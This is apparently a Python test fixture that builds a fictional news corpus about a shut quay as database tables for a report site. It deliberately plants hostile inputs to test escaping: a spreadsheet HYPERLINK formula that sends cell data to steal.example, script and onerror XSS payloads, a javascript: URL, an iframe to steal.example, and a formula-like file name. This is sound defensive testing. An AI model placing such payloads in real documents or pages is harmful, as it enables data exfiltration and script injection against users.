"""A small made-up corpus as the tables a report is made from: four outlets, one story, one article full of traps."""

from datetime import date, datetime
from pathlib import Path

import duckdb
import polars as pl

from assets.report.made_of import Site
from assets.report.site import write_site
from pipeline.warehouse import Transaction

FULL = "We will rebuild every house on the quay, and the harbour will open before the winter"
CHANGED = "They will rebuild some houses on the quay, maybe"
SPELLED = "We will rebuild every house on the quay, and the harbor will open before the winter"
PART = "the harbour will open before the winter"
ALONE = "Nobody asked the ferrymen"
FORMULA = '=HYPERLINK("https://steal.example/?"&A1,"open")'
TRAP = "<script>window.trapped=1</script><img src=x onerror='window.trapped=1'> said & done"
PERSON, MINISTER, QUAY = "p-brook", "p-marsh", "e-quay"
TEXT, TIME, NUMBER, REAL, FLAG, LIST = (
    pl.String,
    pl.Datetime("us"),
    pl.Int32,
    pl.Float64,
    pl.Boolean,
    pl.List(pl.String),
)

OUTLETS = {
    "north": "The North Mail",
    "south": "South Courier",
    "east": "East Ferry Post",
    "west": "<b>West</b> & Sons",
    "none": "Silent Herald",
}
PUBLISHED = {
    "a-north": (datetime(2026, 9, 7, 8, 0), "second"),
    "a-south": (datetime(2026, 9, 7, 10, 30), "second"),
    "a-east": (datetime(2026, 9, 9), "day"),
    "a-west": (datetime(2026, 9, 8, 7, 15), "second"),
    "a-none": (None, "none"),
}
# (quote, article, statement, words, form, speaker, relation)
PRINTINGS = [
    ("q1", "a-north", "s-rebuild", FULL + ",", "direct", PERSON, "same"),
    ("q2", "a-south", "s-rebuild", SPELLED, "direct", PERSON, "spelling"),
    ("q3", "a-east", "s-rebuild", PART, "partial", PERSON, "fragment"),
    ("q4", "a-west", "s-rebuild", CHANGED, "direct", PERSON, "altered"),
    ("q5", "a-east", "s-alone", ALONE, "block", MINISTER, "same"),
    ("q6", "a-west", "s-formula", FORMULA, "direct", None, "same"),
    ("q7", "a-west", "s-trap", TRAP, "direct", None, "same"),
    ("q8", "a-south", "s-told", "the quay would stay shut", "indirect", PERSON, "same"),
]


def frame(rows: list[tuple], **columns: object) -> pl.DataFrame:
    return pl.DataFrame(rows, schema=columns, orient="row")


Tables = dict[str, pl.DataFrame]


def newsroom() -> Tables:
    """The tables by their names in the warehouse; a report needs no more."""
    bodies = {article: _body(article) for article in PUBLISHED}
    names = {PERSON: "Ada Brook", MINISTER: "Cy Marsh", None: None}
    outlet_of = {article: article.removeprefix("a-") for article in PUBLISHED}
    quotes = []
    for quote, article, _, words, form, speaker, _ in PRINTINGS:
        body = bodies[article]
        start = body.index(words)
        name = names[speaker]
        at = body.find(name, start) if name else -1
        quotes.append(
            (quote, article, outlet_of[article], start, start + len(words), words, form, name,
             at if at >= 0 else None, at + len(name) if name and at >= 0 else None, name, speaker, "said_after", 0.9, 0.95,
             body.count("\n", 0, start), len(words.split()))
        )  # fmt: skip
    mentions = [
        (article, entity, body.index(name), body.index(name) + len(name))
        for article, body in bodies.items()
        for entity, name in ((PERSON, "Ada Brook"), (QUAY, "Averley Quay"))
        if name in body
    ]
    carried = {statement: {} for _, _, statement, *_ in PRINTINGS if statement != "s-told"}
    for quote, article, statement, words, form, speaker, relation in PRINTINGS:
        if statement in carried:
            carried[statement][outlet_of[article]] = (quote, article, form, words, relation, speaker)
    coverage = [
        _coverage_row(statement, outlet, printed, names) for statement, printed in carried.items() for outlet in OUTLETS
    ]
    return {
        "core.articles": frame(
            [
                (article, outlet_of[article], "agency" if article == "a-south" else None, _url(article),
                 TRAP if article == "a-west" else f"Quay shut, says {article}", ["A Writer <a@b>"], at, precision, "AVERLEY",
                 "en", True, bodies[article], len(bodies[article].split()))
                for article, (at, precision) in PUBLISHED.items()
            ],
            article_id=TEXT, source_id=TEXT, agency_id=TEXT, url=TEXT, title=TEXT, authors=LIST, published_at=TIME,
            published_precision=TEXT, dateline=TEXT, language=TEXT, supported=FLAG, body=TEXT, n_words=NUMBER,
        ),
        "core.sources": frame(
            [(key, name, "outlet", f"{key}.example", "XM") for key, name in OUTLETS.items()]
            + [("agency", "Coast Wire", "agency", None, None)],
            source_id=TEXT, name=TEXT, kind=TEXT, domain=TEXT, country=TEXT,
        ),
        "core.quotes": frame(
            quotes, quote_id=TEXT, article_id=TEXT, source_id=TEXT, start=NUMBER, end=NUMBER, text=TEXT, kind=TEXT,
            speaker_text=TEXT, speaker_start=NUMBER, speaker_end=NUMBER, speaker_name=TEXT, speaker_id=TEXT, rule=TEXT,
            confidence=REAL, speaker_confidence=REAL, paragraph=NUMBER, n_words=NUMBER,
        ),
        "core.mentions": frame(sorted(mentions), article_id=TEXT, entity_id=TEXT, start=NUMBER, end=NUMBER),
        "core.entities": frame(
            [(QUAY, "Averley Quay", "place", []), (PERSON, "Ada Brook", "person", ["Brook", "Mayor Brook"]),
             (MINISTER, "Cy Marsh", "person", ["Cý Marsh"])],
            entity_id=TEXT, name=TEXT, kind=TEXT, aliases=LIST,
        ).with_columns(wikidata_id=pl.lit(None, TEXT)),
        "core.removed_lines": frame(
            [("a-west", 0, "<iframe src='https://steal.example'></iframe>", "advert"), ("a-west", 9, "Subscribe", "newsletter")],
            article_id=TEXT, line_no=NUMBER, text=TEXT, reason=TEXT,
        ),
        "core.statements": frame(
            [(statement, max((row[3] for row in PRINTINGS if row[2] == statement), key=len), speaker)
             for statement, speaker in (("s-rebuild", PERSON), ("s-alone", MINISTER), ("s-formula", None),
                                        ("s-trap", PERSON), ("s-told", PERSON))],
            statement_id=TEXT, text=TEXT, speaker_id=TEXT,
        ).with_columns(story_id=pl.lit("story")),
        "core.stories": frame(
            [("story", article) for article in PUBLISHED if article != "a-none"] + [("other", "a-none")],
            story_id=TEXT, article_id=TEXT,
        ),
        "core.statement_quotes": frame(
            [(statement, quote, relation) for quote, _, statement, *_, relation in PRINTINGS],
            statement_id=TEXT, quote_id=TEXT, relation=TEXT,
        ),
        "raw.rejects": frame(
            [("inbox/empty.html", -1, "empty", "there is nothing in it", 0), ("inbox/=1+1.csv", 3, "missing_text", "no text", 12)],
            path=TEXT, record_no=NUMBER, reason=TEXT, detail=TEXT, n_bytes=pl.Int64,
        ),
        "marts.quote_coverage": frame(
            coverage, statement_id=TEXT, outlet_id=TEXT, outlet=TEXT, speaker_id=TEXT, speaker=TEXT, carried=FLAG,
            quote_id=TEXT, article_id=TEXT, kind=TEXT, wording=TEXT, relation=TEXT, n_printings=NUMBER,
            n_story_articles=NUMBER, published_at=TIME, first_published_at=TIME, hours_after_first=REAL, url=TEXT,
        ),
        "marts.outlet_coverage": frame(
            [(key, name, 1, 1, 4, sum(key in printed for printed in carried.values()), 0.5, int(key in ("east", "west")),
              int(key == "west"), 1.0 if key == "south" else 0.0) for key, name in OUTLETS.items()],
            outlet_id=TEXT, outlet=TEXT, n_articles=NUMBER, n_stories=NUMBER, n_statements_possible=NUMBER,
            n_statements_carried=NUMBER, share_carried=REAL, n_exclusives=NUMBER, n_altered_quotes=NUMBER, share_wire=REAL,
        ),
        "marts.altered_quotes": frame(
            [("q4", "s-rebuild", "a-west", "west", OUTLETS["west"], "Ada Brook", CHANGED, FULL + ",", 3, "3 others agree",
              PUBLISHED["a-west"][0])],
            quote_id=TEXT, statement_id=TEXT, article_id=TEXT, outlet_id=TEXT, outlet=TEXT, speaker=TEXT, wording=TEXT,
            usual_wording=TEXT, n_other_outlets=NUMBER, evidence=TEXT, published_at=TIME,
        ),
        "marts.repeated_phrases": frame(
            [("f1", "the harbour will open before the winter", 7, 2, 2, 2, "The North Mail", PUBLISHED["a-north"][0], "quote"),
             ("f2", "<u>the ferry</u> does not run on sundays", 7, 2, 2, 2, "South Courier", None, "wire")],
            phrase_id=TEXT, phrase=TEXT, n_tokens=NUMBER, n_occurrences=NUMBER, n_articles=NUMBER, n_outlets=NUMBER,
            first_outlet=TEXT, first_published_at=TIME, kind=TEXT,
        ),
        "core.phrase_occurrences": frame(
            [(phrase, article, bodies[article].index(words), bodies[article].index(words) + len(words))
             for phrase, article, words in (("f1", "a-north", PART), ("f1", "a-east", PART),
                                            ("f2", "a-south", "on the quay"), ("f2", "a-west", "on the quay"))],
            phrase_id=TEXT, article_id=TEXT, start=NUMBER, end=NUMBER,
        ),
        "marts.speaker_coverage": frame(
            [("north", PERSON, "Ada Brook", 1, 1, 0, 0, 16), ("south", PERSON, "Ada Brook", 2, 1, 0, 1, 20),
             ("east", PERSON, "Ada Brook", 1, 0, 1, 0, 7), ("west", PERSON, "Ada Brook", 1, 1, 0, 0, 8),
             ("east", MINISTER, "Cy Marsh", 1, 1, 0, 0, 4)],
            outlet_id=TEXT, speaker_id=TEXT, speaker=TEXT, n_quotes=NUMBER, n_direct=NUMBER, n_partial=NUMBER,
            n_indirect=NUMBER, n_words=NUMBER,
        ).with_columns(
            outlet=pl.col("outlet_id").replace_strict(OUTLETS), share_of_words=pl.lit(0.5)
        ).sort("speaker_id", "outlet_id"),
        "marts.syndication": frame(
            [("a-south", "south", "South Courier", "Quay shut, says a-south", PUBLISHED["a-south"][0], "a-north",
              "The North Mail", 0.62, 90, 2.5, "Coast Wire")],
            article_id=TEXT, outlet_id=TEXT, outlet=TEXT, title=TEXT, published_at=TIME, origin_article_id=TEXT,
            origin_outlet=TEXT, shared_share=REAL, n_shared_tokens=NUMBER, hours_after_origin=REAL, agency=TEXT,
        ),
        "core.alert_rules": frame(
            [("altered <words>", "altered"), ("silence", "left-out")], rule=TEXT, watch=TEXT
        ),
        "marts.alerts": frame(
            [("m1", "altered <words>", "altered", "west", OUTLETS["west"], PERSON, "Ada Brook", CHANGED, 3, "s-rebuild", "q4",
              "a-west", PUBLISHED["a-west"][0]),
             ("m2", "silence", "left-out", "none", OUTLETS["none"], None, None, TRAP + "\x07", 1, "s-trap", None, None, None)],
            alert_id=TEXT, rule=TEXT, watch=TEXT, outlet_id=TEXT, outlet=TEXT, speaker_id=TEXT, speaker=TEXT, text=TEXT,
            n_others=NUMBER, statement_id=TEXT, quote_id=TEXT, article_id=TEXT, published_at=TIME,
        ).with_columns(url=pl.lit(None, TEXT)),
        "marts.quotes_daily": frame(
            [(date(2026, 9, 7), "north", 1), (date(2026, 9, 7), "south", 2), (date(2026, 9, 8), "west", 3),
             (date(2026, 9, 9), "east", 2)],
            published_on=pl.Date, outlet_id=TEXT, n_quotes=NUMBER,
        ).with_columns(
            outlet=pl.col("outlet_id").replace_strict(OUTLETS), n_articles=pl.lit(1), n_statements=pl.col("n_quotes")
        ),
        "core.article_pairs": frame(
            [("a-north", "a-south", 90, 0.6, 0.62), ("a-east", "a-north", 30, 0.2, 0.2)],
            article_a=TEXT, article_b=TEXT, n_shared_tokens=NUMBER, containment_a=REAL, containment_b=REAL,
        ),
        "reference.spelling_variants": frame([("harbour", "harbor"), ("colour", "color")], variant=TEXT, spelling=TEXT),
    }  # fmt: skip


def database(tables: Tables) -> Transaction:
    """The tables in a database of their own."""
    connection = duckdb.connect()
    for path, rows in tables.items():
        connection.execute(f"CREATE SCHEMA IF NOT EXISTS {path.split('.')[0]}")
        connection.register("rows", rows.to_arrow())
        connection.execute(f"CREATE TABLE {path} AS FROM rows")
    return Transaction(connection)


def made(tables: Tables, folder: Path, last: Site | None = None) -> Site:
    folder.mkdir(parents=True, exist_ok=True)
    return write_site(database(tables), folder, last=last).site


def build(folder: Path) -> Path:
    return made(newsroom(), folder).folder


def _body(article: str) -> str:
    lines = ["The quay at Averley Quay has been shut since spring." if article != "a-none" else "Nothing was said."]
    for _, of, _, words, form, speaker, _ in PRINTINGS:
        if of == article:
            name = {PERSON: "Ada Brook", MINISTER: "Cy Marsh", None: "somebody"}[speaker]
            lines.append(f"{name} said {words}." if form == "indirect" else f"“{words}” {name} said on the pier.")
    return "\n".join(lines)


def _url(article: str) -> str:
    return "javascript:window.trapped=1" if article == "a-west" else f"https://{article}.example/quay?a=1&b=2"


def _coverage_row(statement: str, outlet: str, printed: dict[str, tuple], names: dict) -> tuple:
    first = min(PUBLISHED[row[1]][0] for row in printed.values())
    speaker = next(iter(printed.values()))[5]
    head = (statement, outlet, OUTLETS[outlet], speaker, names[speaker])
    if outlet not in printed:
        return (*head, False, None, None, None, None, None, 0, 1, None, first, None, None)
    quote, article, form, words, relation, _ = printed[outlet]
    at, precision = PUBLISHED[article]
    hours = (at - first).total_seconds() / 3600 if precision == "second" else None
    return (*head, True, quote, article, form, words, relation, 1, 1, at, first, hours, _url(article))
